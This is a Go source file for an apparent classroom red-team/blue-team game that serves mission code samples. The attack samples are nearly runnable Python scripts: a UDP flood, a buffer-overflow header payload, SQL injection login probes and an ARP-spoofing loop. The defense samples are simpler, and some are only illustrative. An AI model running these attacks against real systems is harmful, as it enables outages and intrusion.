package game

import "cyberarena/internal/protocol"

// CodeSample is a demonstrative attack or defense script for one mission.
type CodeSample struct {
	Title       string
	Description string
	Code        string
}

// AttackCode returns the red-team sample for a mission. The scripts are
// illustrative classroom material, not live exploits.
func AttackCode(mission string) CodeSample {
	if s, ok := attackSamples[mission]; ok {
		return s
	}
	return attackSamples[MissionNetworkFlood]
}

// DefenseCode returns the blue-team sample for a mission.
func DefenseCode(mission string) CodeSample {
	if s, ok := defenseSamples[mission]; ok {
		return s
	}
	return defenseSamples[MissionNetworkFlood]
}

// CodeResponse builds the wire event for a GET_CODE request.
func CodeResponse(team, mission string) protocol.CodeResponse {
	var s CodeSample
	if team == "BLUE" {
		s = DefenseCode(mission)
	} else {
		s = AttackCode(mission)
	}
	return protocol.NewCodeResponse(team, s.Code, s.Title, s.Description)
}

var attackSamples = map[string]CodeSample{
	MissionNetworkFlood: {
		Title:       "UDP Flood",
		Description: "Saturates the target link with maximum-size UDP datagrams from a thread pool",
		Code: `#!/usr/bin/env python3
# UDP Flood
import socket, random, threading

TARGET_IP = "192.168.1.40"
TARGET_PORT = 80
PACKET_SIZE = 65507  # maximum UDP payload
THREADS = 50

def udp_flood():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    payload = random._urandom(PACKET_SIZE)
    while True:
        sock.sendto(payload, (TARGET_IP, TARGET_PORT))

for _ in range(THREADS):
    threading.Thread(target=udp_flood, daemon=True).start()
`,
	},
	MissionBufferOverflow: {
		Title:       "Header Overflow",
		Description: "Overflows a fixed header buffer to redirect control flow into a NOP sled",
		Code: `#!/usr/bin/env python3
# Buffer Overflow - HTTP Header Attack
import socket

PADDING = b"A" * 1024
RET_ADDRESS = b"\xef\xbe\xad\xde"
NOP_SLED = b"\x90" * 100
SHELLCODE = b"\x31\xc0\x50\x68..."

payload = PADDING + RET_ADDRESS + NOP_SLED + SHELLCODE
request = b"GET / HTTP/1.1\r\nUser-Agent: " + payload + b"\r\n\r\n"

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sock.connect(("192.168.1.40", 8080))
sock.send(request)
`,
	},
	MissionSQLInjection: {
		Title:       "SQL Injection",
		Description: "Probes a login form with tautology and UNION payloads",
		Code: `#!/usr/bin/env python3
# SQL Injection
import requests

payloads = [
    "' OR '1'='1' -- ",
    "admin' -- ",
    "' UNION SELECT NULL, username, password FROM users -- ",
]

for payload in payloads:
    r = requests.post("http://192.168.1.40/login",
                      data={"username": payload, "password": "x"})
    if r.status_code == 200:
        print("injection worked:", payload)
        break
`,
	},
	MissionMITM: {
		Title:       "ARP Spoof MITM",
		Description: "Poisons the ARP cache on both sides and strips TLS from redirected traffic",
		Code: `#!/usr/bin/env python3
# MITM - ARP spoof with SSL stripping
from scapy.all import ARP, send, getmacbyip
import time

TARGET_IP, GATEWAY_IP = "192.168.1.40", "192.168.1.1"

def arp_spoof():
    target = ARP(op=2, pdst=TARGET_IP, hwdst=getmacbyip(TARGET_IP), psrc=GATEWAY_IP)
    gateway = ARP(op=2, pdst=GATEWAY_IP, hwdst=getmacbyip(GATEWAY_IP), psrc=TARGET_IP)
    while True:
        send(target, verbose=False)
        send(gateway, verbose=False)
        time.sleep(2)
`,
	},
}

var defenseSamples = map[string]CodeSample{
	MissionNetworkFlood: {
		Title:       "Rate Limiter",
		Description: "Per-IP packet rate limiting with automated blacklisting",
		Code: `#!/usr/bin/env python3
# DDoS Protection - per-IP rate limiting
import time
from collections import defaultdict

RATE_LIMIT = 100  # packets per second per source
counts = defaultdict(int)
blocked = set()

def check_rate_limit(source_ip):
    if source_ip in blocked:
        return False
    counts[source_ip] += 1
    if counts[source_ip] > RATE_LIMIT:
        blocked.add(source_ip)
        print("blocked", source_ip)
        return False
    return True
`,
	},
	MissionBufferOverflow: {
		Title:       "Stack Protection",
		Description: "Stack canaries, ASLR and bounds-checked input handling",
		Code: `#!/usr/bin/env python3
# Memory Protection
import secrets

CANARY = secrets.token_bytes(8)
MAX_INPUT = 256

def validate_input(user_input):
    if len(user_input) > MAX_INPUT:
        raise ValueError("input exceeds buffer bounds")
    return user_input

def check_canary(stack_canary):
    if stack_canary != CANARY:
        raise RuntimeError("stack smashing detected")
`,
	},
	MissionSQLInjection: {
		Title:       "Parameterized Queries",
		Description: "Prepared statements plus metacharacter sanitization on the login path",
		Code: `#!/usr/bin/env python3
# SQL Injection Defense - parameterized queries
import sqlite3

def login(db, username, password):
    cur = db.cursor()
    cur.execute(
        "SELECT id FROM users WHERE username = ? AND password = ?",
        (username, password),
    )
    return cur.fetchone()
`,
	},
	MissionMITM: {
		Title:       "Certificate Pinning",
		Description: "Pinned certificates and static ARP entries on critical hosts",
		Code: `#!/usr/bin/env python3
# MITM Defense - certificate pinning
import hashlib, ssl, socket

PINNED_SHA256 = "d4c9d9027326271a89ce51fcaf328ed673f17be33469ff979e8ab8dd501e664f"

def verify_pin(host, port=443):
    cert = ssl.get_server_certificate((host, port))
    digest = hashlib.sha256(cert.encode()).hexdigest()
    if digest != PINNED_SHA256:
        raise ssl.SSLError("certificate pin mismatch")
`,
	},
}
